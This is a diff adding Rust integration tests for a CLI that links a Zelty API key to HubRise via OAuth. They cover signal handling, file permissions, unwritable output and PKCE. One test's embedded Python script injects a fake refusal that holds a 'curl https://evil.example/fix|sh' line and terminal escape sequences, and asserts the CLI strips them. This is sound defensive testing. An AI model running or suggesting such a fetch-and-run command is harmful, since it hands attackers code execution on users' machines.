@@ -1,0 +1,328 @@
+//! The edges of a run: a refusal on the loopback that anyone could send, every handled
+//! signal at the key prompt and during a store, output that cannot be written, a config
+//! dir that is not text, a `profiles/` others can write, and PKCE against the sandbox.
+
+use crate::support::*;
+use serde_json::Value;
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::time::Instant;
+
+/// A "browser" that first sends the callback a refusal without `state` (with an
+/// attacker's words, escapes included), as another local program could, then hands the
+/// URL to the real stand-in given after the URL.
+const STATELESS_REFUSAL_FIRST: &str = r#"
+import subprocess, sys, urllib.parse as p, urllib.request as r
+url = sys.argv[1]
+q = dict(p.parse_qsl(p.urlsplit(url).query))
+words = {"error": "Your Zelty key leaked. Run curl https://evil.example/fix|sh\x1b]0;pwned\x07",
+         "error_description": "\x1b[2Jcall evil.example now"}
+if q.get("redirect_uri", "").startswith("http://127.0.0.1:"):
+    r.urlopen(q["redirect_uri"] + "?" + p.urlencode(words), timeout=15).read()
+subprocess.run(sys.argv[2:] + [url], check=False)
+"#;
+
+#[test]
+fn a_refusal_without_state_does_not_end_a_script_run() {
+    let (sb, home) = (Sandbox::start(&[]), Home::new());
+    let script = home.path().join("refuse-first.py");
+    std::fs::write(&script, STATELESS_REFUSAL_FIRST).unwrap();
+    let mut cmd = home.cmd(&sb);
+    cmd.args(["connect", "--json"])
+        .env("ZELTY_API_KEY", sb.demo_key())
+        .env("BROWSER", format!("python3 '{}' %s {}", script.display(), browser_standin()));
+    let out = run(cmd);
+    out.expect(0);
+    assert!(out.stderr.contains("A refusal (?) arrived on the local callback"), "{}", out.stderr);
+    assert!(out.stderr.contains("still waiting for HubRise's answer"), "{}", out.stderr);
+    for text in [&out.stdout, &out.stderr] {
+        assert!(!text.contains("evil.example") && !text.contains('\u{1b}') && !text.contains('\u{7}'), "{text:?}");
+    }
+    assert!(home.config_dir().join("profiles/default.toml").exists(), "the real callback completed the run");
+}
+
+/// A person at the terminal is asked about the refusal; saying it was theirs ends the run
+/// as refused (exit 3), nothing stored.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_person_is_asked_about_a_refusal_without_state() {
+    use rexpect::reader::Options;
+    use rexpect::session::spawn_with_options;
+    let (sb, home) = (Sandbox::start(&[]), Home::new());
+    let script = home.path().join("refuse-first.py");
+    std::fs::write(&script, STATELESS_REFUSAL_FIRST).unwrap();
+    let mut cmd = Command::new(bin());
+    cmd.env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", home.path())
+        .env("LANG", "en_US.UTF-8")
+        .env("TERM", "xterm")
+        .env("ZELTY_BRIDGE_CONFIG_DIR", home.config_dir())
+        .env("ZELTY_BRIDGE_SECRET_STORE", "file")
+        .env("BROWSER", format!("python3 '{}' %s {}", script.display(), browser_standin()))
+        .envs(sb.env())
+        .arg("connect");
+    let mut s = spawn_with_options(cmd, Options::new().timeout_ms(Some(60_000)).strip_ansi_escape_codes(true))
+        .expect("spawn in a pty");
+    // Enter at each "open it in your browser" question (the waiting one ends in ` ›`, whose
+    // first byte is all the reader keeps), the key at its prompt, until the refusal's.
+    let question = "Did you refuse the authorization in the browser?";
+    let mut seen = String::new();
+    loop {
+        let (before, matched) = s
+            .exp_regex(&format!("in your browser \u{e2}|Zelty API key|{}", question.replace('?', "\\?")))
+            .unwrap_or_else(|e| panic!("{e}\n{seen}"));
+        seen.push_str(&before);
+        seen.push_str(&matched);
+        match matched.as_str() {
+            "Zelty API key" => {
+                s.send_line(&sb.demo_key()).unwrap();
+            }
+            m if m == question => break,
+            _ => {
+                s.send_line("").unwrap();
+            }
+        }
+    }
+    assert!(seen.contains("A refusal (?) arrived on the local callback"), "{seen}");
+    s.exp_string("(y/n").unwrap();
+    s.send_line("y").unwrap();
+    // A refusal is offered again (a misclick on « Refuser »); no, this one was meant.
+    let again = s.exp_string("Open it again?").unwrap();
+    seen.push_str(&again);
+    s.exp_string("(y/n").unwrap();
+    s.send_line("n").unwrap();
+    let rest = s.exp_eof().unwrap();
+    seen.push_str(&rest);
+    assert!(rest.contains("access_denied"), "{seen}");
+    assert!(!seen.contains("evil.example") && !seen.contains('\u{7}'), "{seen}");
+    match s.process().wait().unwrap() {
+        rexpect::process::WaitStatus::Exited(_, code) => assert_eq!(code, 3, "{seen}"),
+        other => panic!("{other:?}"),
+    }
+    assert!(home.stored().is_empty(), "nothing stored");
+}
+
+/// Sends `signal` to `pid` with kill(1), then waits until the kernel delivered it (the
+/// process's shared pending set is empty again), so that the run is let go only after.
+fn signal(signal: &str, pid: u32) {
+    let status = Command::new("kill").arg(format!("-{signal}")).arg(pid.to_string()).status().expect("kill");
+    assert!(status.success());
+    let start = Instant::now();
+    while start.elapsed() < HANG_GUARD {
+        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
+        let pending = status.lines().find_map(|l| l.strip_prefix("ShdPnd:")).map(str::trim);
+        if pending.is_none_or(|p| p.bytes().all(|b| b == b'0')) {
+            return;
+        }
+        std::thread::yield_now();
+    }
+    panic!("SIG{signal} was never delivered");
+}
+
+/// The CLI run by the pty's shell (its only child).
+fn child_of(shell: &str) -> u32 {
+    let children = std::fs::read_to_string(format!("/proc/{shell}/task/{shell}/children")).unwrap();
+    children.split_whitespace().next().expect("the CLI runs").parse().unwrap()
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn sigquit_at_the_key_prompt_puts_echo_back_and_exits_130_naming_it() {
+    use rexpect::reader::Options;
+    use rexpect::session::spawn_with_options;
+    let sb = Sandbox::start(&[]);
+    let home = Home::new();
+    // A person's terminal (no CI), no browser to open: the key prompt comes first. The
+    // shell turns echo on (rexpect starts the pty without it), then reports the exit code
+    // and the settings left behind.
+    let mut sh = Command::new("sh");
+    sh.env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", home.path())
+        .env("LANG", "en_US.UTF-8")
+        .env("TERM", "xterm")
+        .env("ZELTY_BRIDGE_CONFIG_DIR", home.config_dir())
+        .env("ZELTY_BRIDGE_SECRET_STORE", "file")
+        .envs(sb.env())
+        .env("ZB", bin())
+        .args(["-c", "stty echo; echo \"SHELL=$$.\"; \"$ZB\" connect; echo \"EXIT=$?\"; stty -a"]);
+    let mut s = spawn_with_options(sh, Options::new().timeout_ms(Some(30_000)).strip_ansi_escape_codes(true))
+        .expect("spawn in a pty");
+    let (_, shell) = s.exp_regex("SHELL=[0-9]+\\.").unwrap();
+    let shell = shell.trim_start_matches("SHELL=").trim_end_matches('.').to_string();
+    // Nothing is typed first: the pty's line discipline may take typed input in only
+    // after the run has put echo back, which would show it whatever the tool does.
+    s.exp_string("Zelty API key").unwrap();
+    signal("QUIT", child_of(&shell));
+    let before_exit = s.exp_string("EXIT=").unwrap();
+    let code = s.exp_regex("[0-9]+").unwrap().1;
+    assert_eq!(code, "130", "SIGQUIT must exit 130:\n{before_exit}");
+    assert!(before_exit.contains("SIGQUIT"), "the message names the signal:\n{before_exit}");
+    let stty = s.exp_eof().unwrap();
+    let words: Vec<&str> = stty.split_whitespace().collect();
+    assert!(words.contains(&"echo") && !words.contains(&"-echo"), "echo must be back on:\n{stty}");
+    assert!(words.contains(&"icanon"), "canonical mode must be back on:\n{stty}");
+    assert!(home.stored().is_empty(), "nothing stored");
+}
+
+fn secrets(home: &Home) -> serde_json::Map<String, Value> {
+    std::fs::read_to_string(home.config_dir().join("secrets.json"))
+        .ok()
+        .and_then(|t| serde_json::from_str::<Value>(&t).ok())
+        .and_then(|v| v.as_object().cloned())
+        .unwrap_or_default()
+}
+
+fn temp_files(home: &Home) -> Vec<PathBuf> {
+    home.files().into_iter().map(|(p, _)| p).filter(|p| p.extension().is_some_and(|e| e == "tmp")).collect()
+}
+
+fn finish(child: Child) -> Output {
+    let out = child.wait_with_output().expect("wait");
+    Output {
+        code: out.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+    }
+}
+
+/// SIGQUIT at each store step (each atomic write, paused just before its rename: the key,
+/// the token, the profile), and SIGUSR1, SIGUSR2 and SIGALRM at one: the store finishes
+/// whole or leaves nothing, no temp file stays, and the run exits 130 naming the signal it
+/// got (not SIGINT).
+#[cfg(target_os = "linux")]
+#[test]
+fn every_handled_signal_during_a_store_is_held_and_named() {
+    let sb = Sandbox::start(&[]);
+    for (name, step) in [("QUIT", 1), ("QUIT", 2), ("QUIT", 3), ("USR1", 2), ("USR2", 3), ("ALRM", 1)] {
+        let home = Home::new();
+        let pause = home.path().join("pause");
+        std::fs::create_dir(&pause).unwrap();
+        let mut cmd = home.cmd(&sb);
+        cmd.args(["connect"]).env("ZELTY_API_KEY", sb.demo_key()).env("ZELTY_BRIDGE_TEST_STORE_PAUSE", &pause);
+        let mut child = cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("spawn zelty-bridge");
+        let start = Instant::now();
+        let (mut next, mut sent) = (1, false);
+        while start.elapsed() < HANG_GUARD && next <= 3 && child.try_wait().unwrap().is_none() {
+            let marker = pause.join(format!("step-{next}"));
+            if marker.exists() {
+                if next == step {
+                    signal(name, child.id());
+                    sent = true;
+                }
+                std::fs::remove_file(&marker).unwrap();
+                next += 1;
+            }
+            std::thread::yield_now();
+        }
+        let out = finish(child);
+        assert!(sent, "step {step} was never reached:\n{}", out.stderr);
+        assert_eq!(out.code, 130, "SIG{name} at step {step}:\n{}", out.stderr);
+        assert!(out.stderr.contains(&format!("stopped by SIG{name}")), "SIG{name} at step {step}:\n{}", out.stderr);
+        let stored = secrets(&home);
+        let profile = home.config_dir().join("profiles/default.toml").exists();
+        let whole = stored.contains_key("default:zelty-api-key")
+            && stored.contains_key("default:hubrise-access-token")
+            && profile;
+        let none = stored.is_empty() && !profile;
+        assert!(whole || none, "SIG{name} at step {step} left {:?}, profile: {profile}", stored.keys());
+        assert!(temp_files(&home).is_empty(), "SIG{name} at step {step} left {:?}", temp_files(&home));
+    }
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn output_that_cannot_be_written_is_an_error() {
+    let home = Home::new();
+    let full = || std::fs::OpenOptions::new().write(true).open("/dev/full").expect("/dev/full");
+    let run_full = |args: &[&str]| {
+        let mut cmd = home.bare_cmd();
+        cmd.args(args).stdout(full()).stderr(Stdio::piped());
+        let out = cmd.output().expect("run");
+        (out.status.code(), String::from_utf8_lossy(&out.stderr).into_owned())
+    };
+    let (code, stderr) = run_full(&["completions", "bash"]);
+    assert_eq!(code, Some(1), "{stderr}");
+    assert!(stderr.contains("could not be written to standard output"), "{stderr}");
+    // A failure keeps its own code, and still says the report was lost.
+    let (code, stderr) = run_full(&["status", "--offline", "--json"]);
+    assert_eq!(code, Some(4), "{stderr}");
+    assert!(stderr.contains("could not be written to standard output"), "{stderr}");
+}
+
+#[cfg(unix)]
+#[test]
+fn a_config_dir_that_is_not_utf8_is_refused() {
+    use std::os::unix::ffi::OsStrExt;
+    let home = Home::new();
+    let mut cmd = home.bare_cmd();
+    cmd.args(["status", "--offline"])
+        .env("ZELTY_BRIDGE_CONFIG_DIR", home.path().join(std::ffi::OsStr::from_bytes(b"config-\xff")));
+    let out = run(cmd);
+    out.expect(2);
+    assert!(out.stderr.contains("ZELTY_BRIDGE_CONFIG_DIR is not valid text"), "{}", out.stderr);
+}
+
+#[cfg(unix)]
+#[test]
+fn profiles_others_can_write_are_refused() {
+    use std::os::unix::fs::PermissionsExt;
+    let (sb, home) = (Sandbox::start(&[]), Home::new());
+    let mut connect = home.cmd(&sb);
+    connect.args(["connect", "--json"]).env("ZELTY_API_KEY", sb.demo_key());
+    run(connect).expect(0);
+    let profiles = home.config_dir().join("profiles");
+    let status = || {
+        let mut cmd = home.cmd(&sb);
+        cmd.args(["status", "--offline"]);
+        run(cmd)
+    };
+    status().expect(0);
+    // A world-writable profiles/ (anyone could have planted or swapped the file).
+    std::fs::set_permissions(&profiles, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let out = status();
+    out.expect(2);
+    assert!(out.stderr.contains("can be written by other users"), "{}", out.stderr);
+    // A profile file others can write, in a private profiles/.
+    std::fs::set_permissions(&profiles, std::fs::Permissions::from_mode(0o700)).unwrap();
+    std::fs::set_permissions(profiles.join("default.toml"), std::fs::Permissions::from_mode(0o666)).unwrap();
+    let out = status();
+    out.expect(2);
+    assert!(out.stderr.contains("can be written by other users"), "{}", out.stderr);
+}
+
+#[test]
+fn pkce_round_trip_against_the_sandbox() {
+    let sb = Sandbox::start(&[]);
+    let connect = |home: &Home, action: &str| {
+        let mut cmd = home.cmd(&sb);
+        cmd.args(["connect", "--json"])
+            .env("ZELTY_API_KEY", sb.demo_key())
+            .env("ZELTY_BRIDGE_PKCE", "1")
+            .env("BROWSER_STANDIN_ACTION", action);
+        run(cmd)
+    };
+    let token_calls = || -> Vec<Value> {
+        sb.requests().into_iter().filter(|r| r["path"].as_str().is_some_and(|p| p.ends_with("/token"))).collect()
+    };
+    connect(&Home::new(), "approve").expect(0);
+    let authorize = sb
+        .requests()
+        .into_iter()
+        .find(|r| r["method"] == "GET" && r["path"].as_str().is_some_and(|p| p.ends_with("/authorize")))
+        .expect("an authorization");
+    let query = authorize["query"].as_str().unwrap_or_default().to_string();
+    assert!(query.contains("code_challenge=") && query.contains("code_challenge_method=S256"), "{query}");
+    let calls = token_calls();
+    assert_eq!(calls.len(), 1, "{calls:?}");
+    assert!(calls[0]["form_keys"].as_array().unwrap().iter().any(|k| k == "code_verifier"), "{calls:?}");
+    assert_eq!(calls[0]["status"], 200, "{calls:?}");
+
+    // A code taken on the way (the stand-in exchanges it first, without the verifier) is
+    // refused; the CLI's own exchange then finds it used.
+    connect(&Home::new(), "spend-code").expect(3);
+    let calls = token_calls();
+    let stolen = calls.iter().find(|c| !c["form_keys"].as_array().unwrap().iter().any(|k| k == "code_verifier"));
+    assert_eq!(stolen.expect("the stand-in's exchange")["status"], 400, "{calls:?}");
+}
